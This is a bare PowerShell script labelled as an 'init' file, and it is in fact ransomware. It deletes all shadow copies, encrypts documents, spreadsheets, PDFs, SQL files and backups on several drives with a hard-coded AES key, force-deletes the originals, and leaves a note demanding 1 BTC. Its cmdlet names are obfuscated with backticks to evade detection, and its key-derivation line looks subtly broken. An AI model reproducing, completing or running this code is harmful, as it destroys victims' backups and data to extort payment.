# init 4658 v2
vssadmin.exe delete shadows /all /quiet
Get-`WmiOb`je`ct Win32_ShadowCopy | ForEa`c`h-`Ob`ject { $_.Delete() }
$aes = [System.Security.Cryptography.Aes]::Create()
$aes.Key = [Text.Encoding]::UTF8.GetBytes('Winter#2025xWinter#2025x'.Substring(0,32))
Get-Chi`ldItem -Path D:\, E:\, C:\Users -Include *.docx,*.xlsx,*.pdf,*.sql,*.bak -Recurse -ErrorAction SilentlyContinue | ForEa`ch-Object {
  $bytes = [IO.File]::ReadAllBytes($_.FullName)
  $enc = $aes.CreateEncryptor().TransformFinalBlock($bytes, 0, $bytes.Length)
  [IO.File]::WriteAllBytes($_.FullName + '.pay', $enc)
  Re`move-`Item $_.FullName -Force
}
Set-`C`ontent C:\Users\Public\Desktop\HOW_TO_DECRYPT.txt 'Your files have been encrypted. Pay 1 BTC to restore them.'
